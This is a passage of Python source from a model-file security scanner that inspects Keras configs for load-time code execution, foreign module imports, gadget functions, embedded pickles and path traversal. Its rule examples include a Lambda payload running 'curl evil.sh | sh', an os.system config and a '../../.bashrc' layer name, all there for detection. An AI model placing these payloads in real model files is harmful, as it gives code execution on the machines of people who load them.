"""Keras model configurations: `config.json` inside a `.keras` archive, legacy `model.to_json()` files,
the `model_config`/`training_config` of H5 files (formats/keras/hdf5.py) and `keras_metadata.pb` beside a
tf.keras SavedModel. One walker visits every nested dict and list of a config, because Keras
deserialises objects wherever they sit (wrapped layers, RNN cells, initializers, losses, schedules).

No suffix is claimed: `.keras` is a zip (the zip walker hands its members to the engine, which is how
`config.json` gets here, and asks `check_listing` about its member names) and `.json`/`.pb` name many
other things. Scanning never imports Keras: standard names come from data/keras_layers.json
(scripts/gen_keras_names.py) and Lambda bytecode is read by formats/keras/marshal.py.
"""

from __future__ import annotations

import base64
import binascii
import fnmatch
import json
import posixpath
import re
import sys
from collections.abc import Iterator, Sequence
from functools import cache
from typing import Any, NamedTuple

from modelshield.core import callables
from modelshield.core.dependencies import named
from modelshield.core.errors import LimitExceeded, ScanError
from modelshield.core.findings import Finding
from modelshield.core.handler import Context, Handler
from modelshield.core.rules import Category, Rule, Severity
from modelshield.core.sniff import suffix_of
from modelshield.core.source import BytesSource, Source
from modelshield.formats._data import load_data
from modelshield.formats._protobuf import LEN, WireError, fields, plausible_head, read_text
from modelshield.formats.tensorflow.ops import OpVerdict, judge_op, judge_symbol

#: Configs larger than this are judged on their first bytes alone when sniffing (scanning reads them
#: in full, within `Limits.max_buffer_bytes`).
MAX_PARSE_BYTES = 16 * 1024 * 1024
_SNIFF_BYTES = 4096
_KERAS_MODULE = re.compile(rb'"module"\s*:\s*"keras')
_MARKERS = (b'"registered_name"', b'"keras_version"')
#: Base64 of Lambda bytecode read for evidence; longer payloads are judged on this prefix.
MAX_CODE_BASE64 = 4 * 1024 * 1024
#: Findings of one rule reported individually per config before a summary.
MAX_PER_RULE = 50
ALLOWLIST = "keras-layers"

# -- rules ------------------------------------------------------------------------------------------

LAMBDA_CODE = Rule(
    id="KRS001",
    title="Keras Lambda layer or __lambda__ object carries Python bytecode",
    severity=Severity.CRITICAL,
    category=Category.LOAD_TIME_CODE,
    overview="A Keras config holds a Python function as marshalled bytecode: a `Lambda` layer "
    '(`function`, `output_shape` or `mask`), or a `{"class_name": "__lambda__"}` object anywhere, '
    "such as an initializer, activation or loss (CVE-2024-3660, CVE-2025-9905).",
    attack="Keras rebuilds the function with `marshal.loads` and calls it. Functional and Sequential "
    "models are rebuilt by calling every layer on symbolic inputs while loading, so the function runs "
    "during `load_model`. `safe_mode=True` refuses it in recent Keras 3 `.keras` loading, but not in "
    "Keras 2 / tf.keras, not in Keras 3 H5 loading before 3.11.3, and not when a user or the config "
    "itself disables safe mode.",
    impact="Arbitrary Python runs with the user's privileges as soon as the model is loaded.",
    remediation="Do not load the model. If you trust the publisher, ask for a model without Lambda "
    "layers (a registered custom layer whose code you can review); never pass `safe_mode=False` or "
    "call `enable_unsafe_deserialization()` for a downloaded model.",
    example='`{"class_name": "Lambda", "config": {"function": {"class_name": "__lambda__", '
    '"config": {"code": "4wEAAA..."}}}}` whose bytecode names `os`, `system` and '
    "`'curl evil.sh | sh'`.",
)

FOREIGN_MODULE = Rule(
    id="KRS002",
    title="Keras config makes Keras import a module outside Keras",
    severity=Severity.CRITICAL,
    category=Category.LOAD_TIME_CODE,
    overview="An object or function reference in the config names a `module` that is not one of Keras's "
    "own packages (`keras`, `tf_keras`, `keras_hub`, `keras_cv`, `keras_nlp`), such as `os`, "
    "`subprocess` or a third-party package (CVE-2025-1550).",
    attack="Keras before 3.9 resolves `module` with `importlib.import_module` and calls what "
    "`class_name` (or a function reference's `config`) names with arguments from the config, so "
    '`{"module": "os", "class_name": "system"}` runs a shell command while loading. Even where '
    "the import is refused, naming a third-party module means the object's code lives outside the "
    "file, in whatever that module is on the loading machine.",
    impact="Standard-library modules give direct code execution at load time (critical); other modules "
    "run their import-time code and the named callable (high).",
    remediation="Do not load the model with an old Keras. If the module is your own package, add the "
    "object to the `keras-layers` allowlist; otherwise ask the publisher why the model needs it.",
    example='`{"module": "os", "class_name": "system", "config": {"command": "id"}}`.',
)

CUSTOM_OBJECT = Rule(
    id="KRS003",
    title="Keras model uses a custom or unknown layer or object",
    severity=Severity.LOW,
    category=Category.MODEL_DEPENDENCY,
    overview="A layer or other serialised object is not one of the standard Keras classes: it has a "
    "`registered_name` such as `package>Name`, a `module` of null, or a class name that neither Keras 3 "
    "nor tf.keras defines.",
    attack="The object's Python code is not in the file, and the file cannot make Keras run it: "
    "Keras 3 and tf.keras look the name up among the classes the running process registered "
    "(`register_keras_serializable`, `custom_objects`) and otherwise refuse to load the model "
    "('Could not locate class'). Whatever class the user's own code registers under that name is what "
    "runs, at load time and on every inference. The attack is therefore in the code the publisher tells "
    "you to install to make the model load, often fetched with 'trust remote code' or copied from their "
    "repository; a class under a module outside Keras (which older Keras imports) is reported as KRS002.",
    impact="Nothing runs from the file itself; the code that provides the class runs inside your process "
    "when the model is loaded and used.",
    remediation="Review the code that provides the class before loading the model, pin it, and add the "
    "class to the `keras-layers` allowlist of your policy (entries match `class_name`, `registered_name` "
    "or `module.class_name`, globs allowed). Unknown names under a Keras module (medium) usually mean a "
    "newer Keras or a renamed class; classes from keras_hub/keras_cv/keras_nlp are low.",
    example='`{"module": null, "class_name": "Scale", "registered_name": "MyPkg>Scale"}`.',
)

#: What the user must check about a class or function the file names but does not carry.
_NOT_IN_FILE = (
    "is not in the file: Keras refuses to load the model unless your own code registers it under this "
    "name, and whatever you register is what runs at load and inference; review the package that provides it"
)

KERAS_GADGET = Rule(
    id="KRS004",
    title="Keras config calls a non-modelling Keras function",
    severity=Severity.HIGH,
    category=Category.LOAD_TIME_CODE,
    overview='A function reference in the config (`{"class_name": "function"}`, or a Keras 2 Lambda '
    'with `function_type: "function"`) names a Keras API that downloads, reads or writes files, loads '
    "other models, or changes Keras's security settings: `keras.utils.get_file`, `keras.saving.load_model`, "
    "`keras.config.enable_unsafe_deserialization`, image and dataset loaders, visualisation writers.",
    attack="These functions are part of Keras, so they pass module checks and `safe_mode` in the Keras "
    "versions these CVEs affect. A Lambda layer referencing them runs them with the config's `arguments` "
    "while the model is rebuilt: `get_file` downloads and extracts an archive over local files "
    "(CVE-2025-8747, CVE-2025-12638), `enable_unsafe_deserialization` switches safe mode off for a later "
    "`__lambda__`, and `load_model` with `safe_mode: false` loads a second, unrestricted model "
    "(CVE-2025-9906).",
    impact="File downloads and overwrites at load time, or a chain to full code execution (critical).",
    remediation="Do not load the model. Upgrade Keras to 3.11 or later, which refuses these functions in "
    "configs, and report the model to its hosting platform.",
    example='`"function": {"module": "keras.utils", "class_name": "function", "config": '
    '"get_file"}` with `arguments` holding an `origin` URL and `extract: true`.',
)

TORCH_MODULE = Rule(
    id="KRS005",
    title="Keras TorchModuleWrapper embeds a PyTorch pickle",
    severity=Severity.HIGH,
    category=Category.LOAD_TIME_CODE,
    overview="A `TorchModuleWrapper` layer stores its wrapped PyTorch module as base64 of `torch.save` "
    "output in `config.module`; the decoded payload is scanned as an embedded file.",
    attack="Keras restores the module with `torch.load(weights_only=False)`, which unpickles whatever "
    "the payload contains. Recent Keras refuses it in safe mode, older releases and `safe_mode=False` "
    "do not.",
    impact="A malicious pickle runs arbitrary code when the model is loaded; the findings of the "
    "embedded pickle say what it would do.",
    remediation="Load such models only from publishers you trust, with safe mode on; prefer a Keras-native "
    "re-implementation of the wrapped module.",
)

EXTERNAL_MODEL = Rule(
    id="KRS006",
    title="Keras TFSMLayer loads an external SavedModel",
    severity=Severity.HIGH,
    category=Category.MODEL_DEPENDENCY,
    overview="A `TFSMLayer` names a TensorFlow SavedModel by path or URL (`config.filepath`); the model "
    "is not part of the file being scanned.",
    attack="Keras loads the SavedModel at that path while loading this model, even with `safe_mode=True` "
    "before 3.13.2 (CVE-2026-1462). Whoever controls the path (a shared folder, a bucket, a relative path "
    "next to a download) controls a graph that can read and write files when it runs.",
    impact="An unreviewed model is loaded and executed; its graph operators run with your privileges.",
    remediation="Scan the referenced SavedModel as well (the path is in the finding's details) or ask for "
    "a self-contained model.",
)

EXTERNAL_VOCABULARY = Rule(
    id="KRS007",
    title="Keras lookup layer reads its vocabulary from a path or URL",
    severity=Severity.HIGH,
    category=Category.MODEL_DEPENDENCY,
    overview="A `StringLookup`, `IntegerLookup`, `IndexLookup` or `TextVectorization` layer gives its "
    "`vocabulary` (or `idf_weights`) as a string, which Keras treats as a file to read.",
    attack="The file is read through TensorFlow's file system layer, which also opens `gs://`, `s3://`, "
    "`hdfs://` and, with tensorflow-io, `http://` locations (CVE-2025-12058). A model can read local files "
    "into its lookup table, probe internal services, or depend on a remote file its publisher can change.",
    impact="Disclosure of local files through model outputs, server-side request forgery, or a model "
    "whose behaviour changes after review.",
    remediation="Ask for a model with an inline vocabulary (Keras 3 stores it in the archive's assets by "
    "default), or check that the path is a file you provide.",
)

NAME_TRAVERSAL = Rule(
    id="KRS008",
    title="Keras layer name contains a path separator",
    severity=Severity.HIGH,
    category=Category.ARCHIVE,
    overview="A layer or object name contains `/`, `\\` or `..`.",
    attack="Keras builds file paths for assets from layer names while saving and loading (DiskIOStore). "
    "A name like `../../.bashrc` makes it write or read outside its temporary folder (CVE-2026-12479); "
    "standard Keras never produces such names.",
    impact="Files outside the model's folder may be overwritten when the model is loaded or re-saved.",
    remediation="Do not load the model with a Keras version that lacks the fix; ask for a model with "
    "plain layer names.",
)

TF_OPERATION = Rule(
    id="KRS009",
    title="Keras operator layer calls a dangerous TensorFlow function",
    severity=Severity.HIGH,
    category=Category.INFERENCE_TIME_CODE,
    overview="A tf.keras operator-wrapping layer (`TFOpLambda`, `SlicingOpLambda`, `TensorFlowOpLayer`, "
    "`ClassMethod`) names a TensorFlow function or op that reads or writes files, talks to the network or "
    "calls back into Python (`tf.io.read_file`, `tf.io.write_file`, `tf.py_function`...).",
    attack="These layers call the TensorFlow symbol named in the config on the layer's inputs each time "
    "the model runs; Keras resolves any public `tf.` symbol, so the config alone chooses what runs, with "
    "no bytecode involved.",
    impact="File reads (exfiltration through outputs), file writes, network access or Python callbacks "
    "during inference; the severity follows the TensorFlow operator catalogue.",
    remediation="Do not serve the model; ask the publisher for one built from standard layers.",
    example='`{"class_name": "TFOpLambda", "config": {"function": "io.read_file"}}`.',
)

UNEXPECTED_MEMBER = Rule(
    id="KRS010",
    title="Unexpected member in a Keras archive",
    severity=Severity.MEDIUM,
    category=Category.ARCHIVE,
    overview="A `.keras` archive holds a member Keras never writes: Python source or compiled code, a "
    "pickle, a nested archive or another unexpected file. Keras writes only `metadata.json`, "
    "`config.json`, `model.weights.h5` or `.npz`, and `assets/`.",
    attack="Keras ignores such members, but the loading instructions or helper code that come with the "
    "model may not: a bundled `.py` module or pickle is a ready payload for a 'trust remote code' loader, "
    "and extra members hide content from scanners that only look at the Keras files.",
    impact="Code (high) or data that Keras itself does not need travels with the model.",
    remediation="Remove the member or ask the publisher why the model carries it; never run bundled code "
    "you have not reviewed. Every member was also scanned on its own.",
)

RULES = (
    LAMBDA_CODE,
    FOREIGN_MODULE,
    CUSTOM_OBJECT,
    KERAS_GADGET,
    TORCH_MODULE,
    EXTERNAL_MODEL,
    EXTERNAL_VOCABULARY,
    NAME_TRAVERSAL,
    TF_OPERATION,
    UNEXPECTED_MEMBER,
)

# -- what standard Keras looks like -----------------------------------------------------------------

KERAS_ECOSYSTEM = frozenset({"keras_hub", "keras_cv", "keras_nlp"})
#: `class_name` values with a meaning of their own in Keras's deserialiser (not classes).
SPECIAL_CLASSES = frozenset(
    {
        "__keras_tensor__",
        "__tensor__",
        "__numpy__",
        "__bytes__",
        "__ellipsis__",
        "__slice__",
        "__typespec__",
        "__tuple__",
        "__lambda__",
        "function",
        "TensorShape",
        "TypeSpec",
        "CompositeTensor",
    }
)
LOOKUP_LAYERS = frozenset({"StringLookup", "IntegerLookup", "IndexLookup", "TextVectorization"})
#: Lambda config keys that hold a function, with their `*_type` and `*_module` companions (Keras 2).
LAMBDA_SLOTS = ("function", "output_shape", "mask")


class StandardNames(NamedTuple):
    module_roots: frozenset[str]
    layers: frozenset[str]
    classes: frozenset[str]
    functions: frozenset[str]


@cache
def standard_names() -> StandardNames:
    """The frozen names of data/keras_layers.json, split into classes and functions by case."""
    data = load_data("keras_layers.json")
    groups = (
        "layers",
        "initializers",
        "regularizers",
        "constraints",
        "activations",
        "losses",
        "metrics",
        "optimizers",
        "schedules",
        "other",
    )
    every = {name for group in groups for name in data[group]}
    return StandardNames(
        frozenset(data["module_roots"]),
        frozenset(data["layers"]),
        frozenset(n for n in every if n[:1].isupper()),
        frozenset(n for n in every if not n[:1].isupper()),
    )


def _root(module: str) -> str:
    return module.split(".", 1)[0]


def decode_base64(text: str, limit: int | None = None) -> bytes | None:
    """Lenient base64 as Keras writes it (`codecs` adds newlines); None if it is not base64 at all."""
    clean = re.sub(r"[^A-Za-z0-9+/=]", "", text if limit is None else text[:limit])
    try:
        return base64.b64decode(clean)
    except (binascii.Error, ValueError):
        clean = clean.rstrip("=")
        try:
            return base64.b64decode(clean[: len(clean) // 4 * 4])
        except (binascii.Error, ValueError):
            return None


def describe_code(encoded: str) -> tuple[str, dict[str, Any]]:
    """Evidence text and details for base64 marshalled bytecode."""
    raw = decode_base64(encoded, MAX_CODE_BASE64)
    if not raw:
        return "bytecode that is not valid base64", {}
    from modelshield.formats.keras import marshal as _marshal  # noqa: PLC0415 - only Lambda layers need the bytecode reader

    summary = _marshal.summarise(raw)
    details: dict[str, Any] = {"bytecode_bytes": len(raw), "names": summary.names[:50], "strings": summary.strings[:50]}
    if not summary.parsed:
        words = ", ".join(summary.strings[:30])
        return f"{len(raw)} bytes of marshal data that did not parse; identifiers in it: {words}", details
    parts = [f"bytecode of {', '.join(summary.functions[:5])}"]
    if summary.filename:
        parts.append(f"from {summary.filename!r}")
    parts.append(f"uses names [{', '.join(summary.names[:30])}]")
    if summary.strings:
        parts.append(f"strings [{', '.join(repr(s[:120]) for s in summary.strings[:10])}]")
    details["filename"] = summary.filename
    return " ".join(parts), details


# -- the walker -------------------------------------------------------------------------------------


class _Node(NamedTuple):
    """A position in the config; the path is built only when a finding needs it."""

    value: Any
    key: str | int | None = None
    parent: _Node | None = None
    owner: str = ""

    @property
    def path(self) -> str:
        parts: list[str] = []
        node: _Node | None = self
        while node is not None and node.key is not None:
            parts.append(f"[{node.key}]" if isinstance(node.key, int) else f".{node.key}")
            node = node.parent
        return "".join(reversed(parts)).lstrip(".") or "<root>"


class ConfigWalker:
    """Applies every Keras rule to one parsed config; shared by config.json, H5 attributes and
    keras_metadata.pb. `where` names the part of the object the config came from (an attribute)."""

    def __init__(self, ctx: Context, where: str = "") -> None:
        self.ctx = ctx
        self.where = where
        self.names = standard_names()
        self.allow = ctx.policy.allowed(ALLOWLIST)
        self.counts: dict[str, int] = {}

    def walk(self, config: Any) -> Iterator[Finding]:
        """Visit every dict and list, iteratively (hostile nesting cannot exhaust the stack)."""
        stack = [_Node(config)]
        while stack:
            node = stack.pop()
            value = node.value
            if isinstance(value, dict):
                owner = node.owner
                if isinstance(value.get("class_name"), str):
                    config = value.get("config")
                    name = config.get("name") if isinstance(config, dict) else value.get("name")
                    owner = f"{value['class_name']} {name!r}" if isinstance(name, str) else value["class_name"]
                    yield from self._object(value, node, owner)
                children = [_Node(v, str(k), node, owner) for k, v in value.items() if isinstance(v, (dict, list))]
                stack.extend(reversed(children))
            elif isinstance(value, list):
                stack.extend(
                    reversed(
                        [_Node(v, i, node, node.owner) for i, v in enumerate(value) if isinstance(v, (dict, list))]
                    )
                )
        for rule_id, count in self.counts.items():
            if count > MAX_PER_RULE:
                rule = next(r for r in RULES if r.id == rule_id)
                yield self.ctx.finding(rule, f"{count - MAX_PER_RULE} more {rule_id} findings in this config")

    def finding(
        self, rule: Rule, node: _Node, evidence: str, severity: Severity | None = None, **details: Any
    ) -> Iterator[Finding]:
        self.counts[rule.id] = self.counts.get(rule.id, 0) + 1
        if self.counts[rule.id] > MAX_PER_RULE:
            return
        where = f"{self.where}: " if self.where else ""
        yield self.ctx.finding(rule, where + evidence, severity=severity, path=node.path, **details)

    def _object(self, obj: dict[str, Any], node: _Node, owner: str) -> Iterator[Finding]:
        class_name: str = obj["class_name"]
        module = obj.get("module")
        if "." in class_name and isinstance(module, str) and _root(module) in self.names.module_roots:
            # Keras resolves `module + "." + class_name` by public API name: `{"module": "keras",
            # "class_name": "layers.TFSMLayer"}` is the TFSMLayer.
            class_name = class_name.rsplit(".", 1)[-1]
        config = obj.get("config")
        settings = config if isinstance(config, dict) else {}
        yield from self._names(obj, settings, node, owner)
        if class_name == "__lambda__":
            yield from self._lambda_object(settings, node)
        elif class_name == "function":
            # A reference's arguments sit beside it in the enclosing Lambda config.
            around = node.parent.value if node.parent is not None and isinstance(node.parent.value, dict) else {}
            yield from self._function(obj.get("module"), config, node, f"{node.owner} {node.key}", around)
        elif class_name == "Lambda":
            yield from self._keras2_lambda(settings, node, owner)
        elif class_name == "TorchModuleWrapper":
            yield from self._torch(settings, node, owner)
        elif class_name == "TFSMLayer":
            path = settings.get("filepath")
            dependency = named(path, "TFSMLayer SavedModel", hub=False)
            details = dependency.details() if dependency else {}
            yield from self.finding(EXTERNAL_MODEL, node, f"{owner} loads the SavedModel at {path!r}", **details)
        elif class_name in LOOKUP_LAYERS:
            yield from self._vocabulary(settings, node, owner)
        elif class_name in ("TFOpLambda", "SlicingOpLambda", "TensorFlowOpLayer", "ClassMethod"):
            yield from self._tf_symbol(class_name, settings, node, owner)
        if class_name != "function":
            yield from self._class(obj, class_name, node, owner)

    def _names(self, obj: dict[str, Any], settings: dict[str, Any], node: _Node, owner: str) -> Iterator[Finding]:
        for name in dict.fromkeys((obj.get("name"), settings.get("name"))):
            if isinstance(name, str) and ("/" in name or "\\" in name or ".." in name.replace("\\", "/").split("/")):
                yield from self.finding(NAME_TRAVERSAL, node, f"{owner}: name {name!r} would be used as a path")

    # -- code and references

    def _lambda_object(self, settings: dict[str, Any], node: _Node) -> Iterator[Finding]:
        value = settings.get("value")
        code = settings.get("code", _first_item(value))
        captured = [settings.get("defaults"), settings.get("closure")]
        if isinstance(value, list):
            captured = value[1:]
        owner = f"{node.owner} {node.key}" if node.owner else "__lambda__ object"
        yield from self._code(code, captured, node, owner)

    def _code(self, code: Any, captured: list[Any], node: _Node, owner: str) -> Iterator[Finding]:
        if isinstance(code, str):
            text, details = describe_code(code)
        else:
            text, details = "function stored in an unrecognised form", {}
        values = [v for v in captured if v not in (None, [], {})]
        if values:
            text += f"; defaults and closure {json.dumps(values)[:200]}"
        yield from self.finding(LAMBDA_CODE, node, f"{owner} carries Python code: {text}", **details)

    def _keras2_lambda(self, settings: dict[str, Any], node: _Node, owner: str) -> Iterator[Finding]:
        """Keras 2 stores `[code, defaults, closure]` (or a `__tuple__`, or bare base64) with a `*_type`."""
        for slot in LAMBDA_SLOTS:
            value = settings.get(slot)
            kind = settings.get(f"{slot}_type")
            if value is None or (isinstance(value, dict) and value.get("class_name") != "__tuple__"):
                continue  # Keras 3 objects (`__lambda__`, function references) are judged where they sit
            if kind == "function" and isinstance(value, str):
                module = settings.get("module" if slot == "function" else f"{slot}_module")
                yield from self._function(module, value, node, f"{owner} {slot}", settings)
            elif kind == "lambda" or (kind is None and slot == "function"):
                items = value.get("items") if isinstance(value, dict) else value
                captured = items[1:] if isinstance(items, list) else []
                yield from self._code(_first_item(value), captured, node, f"{owner} {slot}")

    def _function(self, module: Any, name: Any, node: _Node, owner: str, settings: dict[str, Any]) -> Iterator[Finding]:
        if not isinstance(name, str):
            return
        target = f"{module}.{name}" if isinstance(module, str) else name
        if module == "builtins" and name not in self.names.functions:
            # Keras before 3.9 falls back from its own built-in functions to `import_module("builtins")`.
            verdict = callables.judge("builtins", name)
            if verdict.kind in callables.DANGEROUS_KINDS:
                yield from self._foreign(module, name, node, f"{owner} calls {target!r}")
                return
        if not isinstance(module, str) or module == "builtins":
            if name not in self.names.functions and not self._allowed(name, target):
                yield from self.finding(
                    CUSTOM_OBJECT,
                    node,
                    f"{owner} references function {target!r}, which is not a standard Keras function and "
                    + _NOT_IN_FILE,
                    target=target,
                )
            return
        if _root(module) not in self.names.module_roots | KERAS_ECOSYSTEM:
            yield from self._foreign(module, name, node, f"{owner} calls {target!r}")
            return
        gadget = callables.judge_keras(module, name)
        if gadget is not None:
            arguments = settings.get("arguments")
            unsafe = isinstance(arguments, dict) and arguments.get("safe_mode") is False
            # A nested model loaded with safe mode off runs its Lambda bytecode: code, not only a load.
            severity = Severity.CRITICAL if unsafe else gadget.severity
            args = f"; arguments {json.dumps(arguments)[:200]}" if arguments else ""
            yield from self.finding(
                KERAS_GADGET,
                node,
                f"{owner} calls {target!r}, which {gadget.reason}{' with safe_mode false' if unsafe else ''}{args}",
                severity=severity,
                target=target,
            )

    def _foreign(self, module: str, name: str, node: _Node, evidence: str) -> Iterator[Finding]:
        """A module outside Keras, which Keras before 3.9 imports and calls: as bad as the catalogue says
        (never allowlisted then), and otherwise high, since its code is not in the file."""
        verdict = callables.judge(module, name)
        if verdict.kind in callables.DANGEROUS_KINDS:
            yield from self.finding(
                FOREIGN_MODULE,
                node,
                f"{evidence}: {module}.{name} {verdict.reason}",
                severity=verdict.severity,
                module=module,
            )
        elif not self._allowed(name, f"{module}.{name}"):
            where = "standard-library module" if _root(module) in sys.stdlib_module_names else "module"
            yield from self.finding(
                FOREIGN_MODULE,
                node,
                f"{evidence}: {where} {module!r} is not part of Keras",
                severity=Severity.HIGH,
                module=module,
            )

    def _class(self, obj: dict[str, Any], class_name: str, node: _Node, owner: str) -> Iterator[Finding]:
        module = obj.get("module")
        registered = obj.get("registered_name")
        if isinstance(module, str) and _root(module) not in self.names.module_roots | KERAS_ECOSYSTEM:
            yield from self._foreign(module, class_name, node, f"{owner} is class {class_name!r}")
            return
        if class_name in SPECIAL_CLASSES:
            return
        custom = isinstance(registered, str) and registered not in (
            class_name,
            f"Custom>{class_name}",
            obj["class_name"],
        )
        standard = _standard_class(class_name, self.names.classes) and not custom
        if standard or self._allowed(class_name, registered, f"{module}.{class_name}"):
            return
        label = registered if isinstance(registered, str) else class_name
        if isinstance(module, str) and _root(module) in KERAS_ECOSYSTEM:
            severity, why = Severity.LOW, f"comes from the {_root(module)} package"
        elif isinstance(module, str) and not custom:
            severity, why = Severity.MEDIUM, f"is not a Keras class this version knows (module {module!r})"
        else:
            severity, why = Severity.LOW, _NOT_IN_FILE
        yield from self.finding(
            CUSTOM_OBJECT,
            node,
            f"{owner}: class {label!r} {why}",
            severity=severity,
            class_name=class_name,
            registered_name=registered,
            module=module,
        )

    def _allowed(self, *candidates: Any) -> bool:
        return any(isinstance(c, str) and fnmatch.fnmatchcase(c, pattern) for c in candidates for pattern in self.allow)

    # -- layers with dangerous configs

    def _torch(self, settings: dict[str, Any], node: _Node, owner: str) -> Iterator[Finding]:
        payload = settings.get("module")
        data = decode_base64(payload) if isinstance(payload, str) else None
        size = f"a {len(data)}-byte torch.save payload" if data else "no decodable payload"
        yield from self.finding(TORCH_MODULE, node, f"{owner} embeds {size} (scanned as <TorchModuleWrapper>)")
        if data:
            yield from self.ctx.scan_member(f"<TorchModuleWrapper {node.path}>", BytesSource(data))

    def _vocabulary(self, settings: dict[str, Any], node: _Node, owner: str) -> Iterator[Finding]:
        for key in ("vocabulary", "idf_weights"):
            path = settings.get(key)
            if isinstance(path, str) and path:
                yield from self.finding(EXTERNAL_VOCABULARY, node, f"{owner} reads its {key} from {path!r}", file=path)

    def _tf_symbol(self, class_name: str, settings: dict[str, Any], node: _Node, owner: str) -> Iterator[Finding]:
        verdict: OpVerdict | None = None
        symbol: Any = None
        if class_name == "TensorFlowOpLayer":
            node_def = settings.get("node_def")
            symbol = node_def.get("op") if isinstance(node_def, dict) else None
            verdict = judge_op(symbol) if isinstance(symbol, str) else None
        else:
            symbol = settings.get("function")
            if class_name == "ClassMethod":
                symbol = f"{settings.get('cls_symbol')}.{settings.get('method_name')}"
            verdict = judge_symbol(symbol) if isinstance(symbol, str) else None
        if verdict is not None:
            yield from self.finding(
                TF_OPERATION,
                node,
                f"{owner} calls TensorFlow {symbol!r}: {verdict.reason}",
                severity=verdict.severity,
                symbol=symbol,
                tf_rule=verdict.rule.id,
            )


def _first_item(value: Any) -> Any:
    """The bytecode of Keras 2's `[code, defaults, closure]`, `__tuple__` dict, or bare string."""
    if isinstance(value, dict) and value.get("class_name") == "__tuple__":
        value = value.get("items")
    if isinstance(value, list):
        return value[0] if value else None
    return value


def _standard_class(name: str, classes: frozenset[str]) -> bool:
    # tf.keras registers its optimizers as `Custom>Adam` in H5 training configs.
    return name in classes or (name.startswith("Custom>") and name[len("Custom>") :] in classes)


def parse_config(text: bytes | str) -> Any:
    """JSON of a Keras config; hostile nesting and bad encodings become a ScanError."""
    try:
        if isinstance(text, bytes):
            text = text.decode("utf-8-sig")
        return json.loads(text)
    except RecursionError:
        raise ScanError("Keras config nests deeper than the JSON parser allows") from None
    except (UnicodeDecodeError, ValueError) as exc:
        raise ScanError(f"Keras config is not valid JSON: {exc}") from None


# -- config.json ------------------------------------------------------------------------------------


#: Model classes tf.keras / tf_keras's `model_from_json` builds from `class_name` alone.
_MODEL_CLASSES = frozenset({"Sequential", "Functional", "Model"})


def _is_keras_object(obj: object) -> bool:
    """A serialized Keras object: `class_name` and `config`, plus a Keras module, a registered
    name (Keras 3 needs the module) or a `keras_version`, or a model class: tf.keras's loader needs
    no marker for those, so a config without `keras_version` is still a model it loads."""
    if not isinstance(obj, dict) or not isinstance(obj.get("class_name"), str) or "config" not in obj:
        return False
    module = obj.get("module")
    return (
        (isinstance(module, str) and module.startswith("keras"))
        or "registered_name" in obj
        or "keras_version" in obj
        or obj["class_name"] in _MODEL_CLASSES
    )


def model_class(source: Source) -> str | None:
    """The top-level `class_name` of a Keras model config, or None if this is not one."""
    head = source.head(_SNIFF_BYTES)
    if not head.lstrip(b"\xef\xbb\xbf \t\r\n").startswith(b"{"):
        return None
    if source.size > MAX_PARSE_BYTES:
        markers = _KERAS_MODULE.search(head) or any(m in head for m in _MARKERS)
        if b'"class_name"' in head and b'"config"' in head and markers:
            match = re.search(rb'"class_name"\s*:\s*"([^"\\]{1,200})"', head)
            return match.group(1).decode("utf-8", "replace") if match else "?"
        return None
    raw = source.read_at(0, source.size)
    # The key may come anywhere in the object, or spelled with \u escapes that json.loads decodes.
    if b'"class_name"' not in raw and b"\\u" not in raw:
        return None
    try:
        obj = json.loads(raw.decode("utf-8-sig"))
    except (UnicodeDecodeError, ValueError, RecursionError):
        return None
    return str(obj["class_name"]) if _is_keras_object(obj) else None


#: What Keras writes into a `.keras` archive (besides `assets/`).
KERAS_MEMBERS = frozenset({"metadata.json", "config.json", "model.weights.h5", "model.weights.npz"})
_CODE_SUFFIXES = frozenset({".py", ".pyc", ".pyo", ".pyd", ".so", ".dll", ".dylib", ".sh", ".bat", ".ps1", ".exe"})
_PICKLE_SUFFIXES = frozenset({".pkl", ".pickle", ".pt", ".pth", ".joblib", ".dill", ".ckpt"})
_ARCHIVE_SUFFIXES = frozenset({".zip", ".tar", ".gz", ".tgz", ".bz2", ".xz", ".7z", ".keras", ".whl", ".egg"})


def _member_kind(name: str) -> tuple[str, Severity] | None:
    """Why a member does not belong in a `.keras` archive, or None if Keras writes such members."""
    if name.endswith("/"):
        return None
    name = posixpath.normpath(name.replace("\\", "/"))
    suffix = suffix_of(name)
    if suffix in _CODE_SUFFIXES:
        return "executable code", Severity.HIGH
    if suffix in _PICKLE_SUFFIXES:
        return "a pickle", Severity.HIGH
    if suffix in _ARCHIVE_SUFFIXES:
        return "a nested archive", Severity.MEDIUM
    if name in KERAS_MEMBERS or name.startswith("assets/"):
        return None
    if "/" not in name and name.endswith((".weights.h5", ".weights.json")):  # sharded weights
        return None
    return "a file Keras does not write", Severity.LOW


class KerasConfigHandler(Handler):
    name = "keras-config"
    label = "Keras model config"
    rules = RULES
    allowlists = (ALLOWLIST,)

    def detect(self, source: Source) -> bool:
        return model_class(source) is not None

    def scan(self, source: Source, ctx: Context) -> Iterator[Finding]:
        config = parse_config(ctx.read_whole(source, "Keras config"))
        yield from ConfigWalker(ctx).walk(config)

    def check_listing(self, names: Sequence[str], ctx: Context) -> Iterator[Finding]:
        """A `.keras` archive (by name, or by Keras's own root members) holds only what Keras writes."""
        archive = ctx.location.members[-1] if ctx.location.members else ctx.location.path
        if not (suffix_of(archive) == ".keras" or {"config.json", "metadata.json"} <= set(names)):
            return
        reported = 0
        for name in names:
            kind = _member_kind(name)
            if kind is not None:
                reported += 1
                if reported <= MAX_PER_RULE:
                    yield ctx.finding(UNEXPECTED_MEMBER, f"member {name!r} is {kind[0]}", severity=kind[1], member=name)
        if reported > MAX_PER_RULE:
            yield ctx.finding(UNEXPECTED_MEMBER, f"{reported - MAX_PER_RULE} more unexpected members")


# -- keras_metadata.pb ------------------------------------------------------------------------------

_MAX_NODES = 1_000_000
#: Nodes (and fields per node) walked while detecting: tf.keras writes the model as the first node.
_DETECT_NODES = 64


class MetadataNodes(NamedTuple):
    #: (offset, length) of each node's metadata JSON, up to any malformed field
    found: list[tuple[int, int]]
    #: why the walk stopped early (a truncated or corrupt file after a tf.keras node)
    error: WireError | None


def metadata_nodes(source: Source, limit: int) -> MetadataNodes | None:
    """(offset, length) of every node's metadata JSON in a `keras_metadata.pb` (SavedMetadata:
    nodes = 1 -> SavedObject{node_id 2, node_path 3, identifier 4, metadata 5, version 6}), or None if the
    bytes are not one.

    Recognised as tf.keras's loader parses it (`SavedMetadata.ParseFromString`): any field order,
    unknown fields, groups and fields of another wire type skipped; the loader acts on the nodes
    whose identifier is a `_tf_keras...` one, so one such node among the first `limit` makes it one
    (also when the file breaks after it: the scan then fails closed).
    """
    if not plausible_head(source):
        return None
    found: list[tuple[int, int]] = []
